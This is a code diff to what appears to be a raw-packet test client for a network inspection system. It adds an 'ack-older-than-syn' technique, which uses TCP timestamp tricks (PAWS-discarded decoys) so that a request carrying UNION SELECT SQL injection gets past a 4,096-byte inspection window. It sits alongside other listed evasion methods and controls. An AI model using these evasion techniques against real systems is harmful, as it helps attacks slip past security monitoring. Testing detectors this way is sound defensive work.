@@ -21,6 +21,9 @@ TECHNIQUE is one of:
              ACK, then 4,200 harmless bytes with an older timestamp (the
              receiver's PAWS test against the SYN's discards them; the judge
              never kept the SYN's), then the request at the same sequence
+  ack-older-than-syn raw, timestamps on: the same, with the handshake's ACK
+             sent with the decoys' older timestamp (the receiver discards it
+             too, by PAWS against the SYN)
   ext-headers raw IPv6: the request behind nine destination options headers
   plain      raw: the request with UNION SELECT in one segment (control)
   benign     raw: a request without it (control: the raw client works)
@@ -168,7 +171,7 @@ def tiny(dst, port):
     return 0
 
 
-def syn_ts_decoy(src, dst, port):
+def syn_ts_decoy(src, dst, port, old_ack=False):
     c = Conn(src, dst, port)
     tsval = 1000000
     c.send(c.isn, SYN, options=ts_option(tsval))
@@ -179,6 +182,9 @@ def syn_ts_decoy(src, dst, port):
     c.peer = synack[0][1] + 1
     seq = c.isn + 1
     old = ts_option(tsval - 100000)
+    if old_ack:
+        c.send(seq, ACK, b"", old)
+        c.receive(0.2)
     pad = b"GET /x?id=1 " + b"a" * 1388
     for i in range(3):  # past the judge's 4,096-byte window
         c.send(seq + i * len(pad), ACK | PSH, pad, old)
@@ -190,8 +196,8 @@ def syn_ts_decoy(src, dst, port):
 
 
 def raw(technique, src, dst, port):
-    if technique == "syn-ts-decoy":
-        return syn_ts_decoy(src, dst, port)
+    if technique in ("syn-ts-decoy", "ack-older-than-syn"):
+        return syn_ts_decoy(src, dst, port, technique == "ack-older-than-syn")
     c = Conn(src, dst, port)
     ts = technique == "decoy-paws"
     tsval = 1000000
@@ -256,7 +262,7 @@ def main():
         return oob(dst, port)
     if technique == "tiny":
         return tiny(dst, port)
-    if technique not in ("fin-ahead", "rst-window", "decoy-md5", "decoy-paws", "syn-ts-decoy", "ext-headers",
+    if technique not in ("fin-ahead", "rst-window", "decoy-md5", "decoy-paws", "syn-ts-decoy", "ack-older-than-syn", "ext-headers",
                          "plain", "benign", "midstream"):
         print(__doc__, file=sys.stderr)
         return 2
